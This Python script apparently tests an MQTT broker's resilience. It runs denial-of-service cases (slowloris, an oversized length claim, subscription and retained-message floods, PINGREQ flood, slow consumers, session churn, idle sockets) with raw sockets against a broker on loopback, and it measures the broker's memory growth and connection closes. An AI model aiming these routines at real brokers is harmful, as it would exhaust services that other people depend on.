#!/usr/bin/env python3
"""One hostile-client case against a broker on 127.0.0.1 (see attack.sh).

    attack.py PORT PID CASE

Prints one line `RESULT case=... key=value ...`. Cases: slowloris,
big_claim, subscribe_10k, retained_flood, ping_flood, deep_topic,
slow_consumer, session_churn, idle_sockets. Only loopback; every
wait is bounded; plain sockets (no client library), so that the bytes are
exactly the attack's.
"""

import socket
import struct
import sys
import time

HOST = "127.0.0.1"


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def settle(pid, most=6.0):
    """RSS once it stops moving (checked every 0.5 s, at most `most` s)."""
    last, end = rss_kib(pid), time.time() + most
    while time.time() < end:
        time.sleep(0.5)
        now = rss_kib(pid)
        if now == last:
            return now
        last = now
    return last


def varint(n):
    out = b""
    while True:
        b, n = n % 128, n // 128
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def s(b):
    return struct.pack(">H", len(b)) + b


def pkt(h, body):
    return bytes([h]) + varint(len(body)) + body


def connect_pkt(cid):
    return pkt(0x10, s(b"MQTT") + bytes([4, 2]) + struct.pack(">H", 600) + s(cid.encode()))


def connect(port, cid, rcvbuf=None):
    c = socket.socket()
    if rcvbuf:
        c.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    c.settimeout(5)
    c.connect((HOST, port))
    c.sendall(connect_pkt(cid))
    ack = c.recv(4)
    assert ack[:1] == b"\x20" and ack[3:4] == b"\x00", ack
    return c


def closed_within(c, seconds):
    """Seconds until the peer closed c (reading and discarding), or None."""
    start = time.time()
    c.settimeout(0.2)
    while time.time() - start < seconds:
        try:
            if not c.recv(65536):
                return time.time() - start
        except socket.timeout:
            pass
        except OSError:
            return time.time() - start
    return None


def slowloris(port, pid):
    """50 connections trickle a CONNECT, one byte every 0.5 s, for 15 s."""
    body = connect_pkt("slow")
    conns = []
    for _ in range(50):
        c = socket.create_connection((HOST, port), timeout=5)
        c.setblocking(False)
        conns.append([c, 0, None])
    start = time.time()
    while time.time() - start < 15 and any(x[2] is None for x in conns):
        for x in conns:
            if x[2] is not None:
                continue
            try:
                if x[1] < len(body) - 1:  # never the last byte
                    x[0].send(body[x[1]:x[1] + 1])
                    x[1] += 1
                if x[0].recv(64) == b"":
                    x[2] = time.time() - start
            except BlockingIOError:
                pass
            except OSError:
                x[2] = time.time() - start
        time.sleep(0.5)
    closed = [x[2] for x in conns if x[2] is not None]
    for x in conns:
        x[0].close()
    worst = f"{max(closed):.1f}" if closed else "-"
    return f"closed={len(closed)}/50 after_s={worst} (15 s watched)"


def big_claim(port, pid):
    """A PUBLISH header claiming 268,435,455 bytes, then a few bytes."""
    before = rss_kib(pid)
    c = connect(port, "claim")
    c.sendall(bytes([0x30]) + varint(268_435_455) + b"\x00\x01t" + b"x" * 1000)
    t = closed_within(c, 5)
    grew = rss_kib(pid) - before
    return f"closed_after_ms={'%.0f' % (t * 1000) if t is not None else 'never(5s)'} rss_grew_kib={grew}"


def subscribe_10k(port, pid):
    """One SUBSCRIBE with 10,000 filters."""
    before = rss_kib(pid)
    c = connect(port, "wide")
    body = struct.pack(">H", 1) + b"".join(s(f"f/{i}/+".encode()) + b"\x00" for i in range(10_000))
    start = time.time()
    c.sendall(pkt(0x82, body))
    buf = b""
    c.settimeout(10)
    try:
        while True:
            buf += c.recv(65536)
            if len(buf) >= 2:
                n, i, mult = 0, 1, 1
                while buf[i] & 0x80:
                    n += (buf[i] & 0x7F) * mult
                    mult *= 128
                    i += 1
                n += buf[i] * mult
                if len(buf) >= 1 + i + n:
                    break
    except (socket.timeout, OSError):
        return f"suback=none rss_grew_kib={rss_kib(pid) - before}"
    codes = buf[1 + i + 2:1 + i + n]
    granted = sum(1 for x in codes if x < 0x80)
    ms = (time.time() - start) * 1000
    return f"suback_ms={ms:.0f} granted={granted} refused={len(codes) - granted} rss_grew_kib={settle(pid) - before}"


def retained_flood(port, pid):
    """20,000 retained 1 KiB messages, then 10 subscribers to # that never read."""
    p = connect(port, "retainer")
    buf = b""
    for i in range(20_000):
        buf += pkt(0x31, s(f"r/{i:05d}".encode()) + b"x" * 1024)
        if len(buf) > 1 << 20:
            p.sendall(buf)
            buf = b""
    p.sendall(buf + b"\xc0\x00")
    got, end = b"", time.time() + 30
    while not got.endswith(b"\xd0\x00") and time.time() < end:
        got += p.recv(65536)
    before = settle(pid)
    subs = []
    for k in range(10):
        c = connect(port, f"stalled{k}", rcvbuf=4096)
        c.sendall(pkt(0x82, struct.pack(">H", 1) + s(b"#") + b"\x00"))
        subs.append(c)
    after = settle(pid)
    for c in subs:
        c.close()
    return f"rss_before_mib={before / 1024:.1f} rss_after_mib={after / 1024:.1f}"


def ping_flood(port, pid):
    """A client that never reads sends PINGREQs for 3 s (8 MiB at most)."""
    before = rss_kib(pid)
    c = connect(port, "pinger", rcvbuf=4096)
    c.setblocking(False)
    chunk, sent, start = b"\xc0\x00" * 32768, 0, time.time()
    while sent < 8 << 20 and time.time() - start < 3:
        try:
            sent += c.send(chunk)
        except BlockingIOError:
            time.sleep(0.01)
    after = settle(pid, 3)
    c.close()
    return f"pingreq_taken_kib={sent // 1024} rss_grew_kib={after - before}"


def suback_codes(c, within=10):
    """The return codes of the next SUBACK on c (reading past other packets)."""
    buf, end = b"", time.time() + within
    c.settimeout(1)
    while time.time() < end:
        try:
            got = c.recv(65536)
        except socket.timeout:
            continue
        if not got:
            return None
        buf += got
        while len(buf) >= 2:
            n, i, mult = 0, 1, 1
            while i < len(buf) and buf[i] & 0x80:
                n += (buf[i] & 0x7F) * mult
                mult *= 128
                i += 1
            if i >= len(buf):
                break
            n += buf[i] * mult
            if len(buf) < 1 + i + n:
                break
            if buf[0] == 0x90:
                return buf[1 + i + 2:1 + i + n]
            buf = buf[1 + i + n:]
    return None


def deep_topic(port, pid):
    """A SUBSCRIBE and a PUBLISH with 10,000-level names (20 KB each)."""
    before = rss_kib(pid)
    name = ("a/" * 9_999 + "a").encode()
    sub = connect(port, "deep-sub")
    start = time.time()
    sub.sendall(pkt(0x82, struct.pack(">H", 1) + s(name) + b"\x00"))
    codes = suback_codes(sub)
    code = "none" if codes is None else f"{codes[0]:#04x}"
    pub = connect(port, "deep-pub")
    pub.sendall(pkt(0x30, s(name) + b"x"))
    t = closed_within(pub, 3)
    ms = (time.time() - start) * 1000
    outcome = "kept" if t is None else "closed"
    return f"suback={code} publisher={outcome} total_ms={ms:.0f} rss_grew_kib={settle(pid, 3) - before}"


def slow_consumer(port, pid):
    """A QoS 0 subscriber that never reads gets 50,000 x 1 KiB (50 MiB)."""
    before = rss_kib(pid)
    sub = connect(port, "slow-sub", rcvbuf=4096)
    sub.sendall(pkt(0x82, struct.pack(">H", 1) + s(b"slow/#") + b"\x00"))
    time.sleep(0.5)
    p = connect(port, "fast-pub")
    msg = pkt(0x30, s(b"slow/x") + b"x" * 1024)
    start, sent = time.time(), 0
    while sent < 50_000 and time.time() - start < 20:
        p.sendall(msg * 500)
        sent += 500
    p.sendall(b"\xc0\x00")
    p.settimeout(20)
    got = b""
    while not got.endswith(b"\xd0\x00") and time.time() - start < 30:
        got += p.recv(65536)
    after = settle(pid, 4)
    sub.close()
    return f"sent={sent} secs={time.time() - start:.1f} rss_grew_kib={after - before}"


def send_and_drain(port, data):
    """One connection: send `data`, read until the broker closes it."""
    c = socket.create_connection((HOST, port), timeout=5)
    c.sendall(data)
    try:
        while c.recv(4096):
            pass
    except OSError:
        pass
    c.close()


def session_churn(port, pid):
    """5,000 persistent sessions made and left (clean=0, one SUBSCRIBE
    each), then one client id taken over 5,000 times."""
    before = rss_kib(pid)
    start = time.time()
    made = 0
    for i in range(5_000):
        if time.time() - start > 25:
            break
        cid = f"churn-{i}".encode()
        connect = pkt(0x10, s(b"MQTT") + bytes([4, 0]) + struct.pack(">H", 600) + s(cid))
        send_and_drain(port, connect + pkt(0x82, struct.pack(">H", 1) + s(b"churn/" + cid) + b"\x01") + b"\xe0\x00")
        made += 1
    mid = settle(pid, 3)
    taken = 0
    for _ in range(5_000):
        if time.time() - start > 35:
            break
        send_and_drain(port, pkt(0x10, s(b"MQTT") + bytes([4, 0]) + struct.pack(">H", 600) + s(b"same")) + b"\xe0\x00")
        taken += 1
    after = settle(pid, 3)
    per = (mid - before) * 1024 / made if made else 0
    return (f"sessions={made} rss_grew_kib={mid - before} bytes_per_session={per:.0f} "
            f"takeovers={taken} rss_grew_after_takeovers_kib={after - mid}")


def idle_sockets(port, pid):
    """50 connections that never send a byte: when the broker closes them."""
    conns = [socket.create_connection((HOST, port), timeout=5) for _ in range(50)]
    start = time.time()
    for c in conns:
        c.setblocking(False)
    closed = [None] * 50
    while time.time() - start < 15 and any(x is None for x in closed):
        for k, c in enumerate(conns):
            if closed[k] is not None:
                continue
            try:
                if c.recv(64) == b"":
                    closed[k] = time.time() - start
            except BlockingIOError:
                pass
            except OSError:
                closed[k] = time.time() - start
        time.sleep(0.2)
    done = [x for x in closed if x is not None]
    for c in conns:
        c.close()
    worst = f"{max(done):.1f}" if done else "-"
    return f"closed={len(done)}/50 after_s={worst} (15 s watched)"


CASES = {
    "slowloris": slowloris,
    "big_claim": big_claim,
    "subscribe_10k": subscribe_10k,
    "retained_flood": retained_flood,
    "ping_flood": ping_flood,
    "deep_topic": deep_topic,
    "slow_consumer": slow_consumer,
    "session_churn": session_churn,
    "idle_sockets": idle_sockets,
}

if __name__ == "__main__":
    port, pid, case = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    try:
        out = CASES[case](port, pid)
    except Exception as e:  # report, do not hide: the broker may have died
        out = f"error={type(e).__name__}:{e}".replace(" ", "_")
    print(f"RESULT case={case} {out}", flush=True)
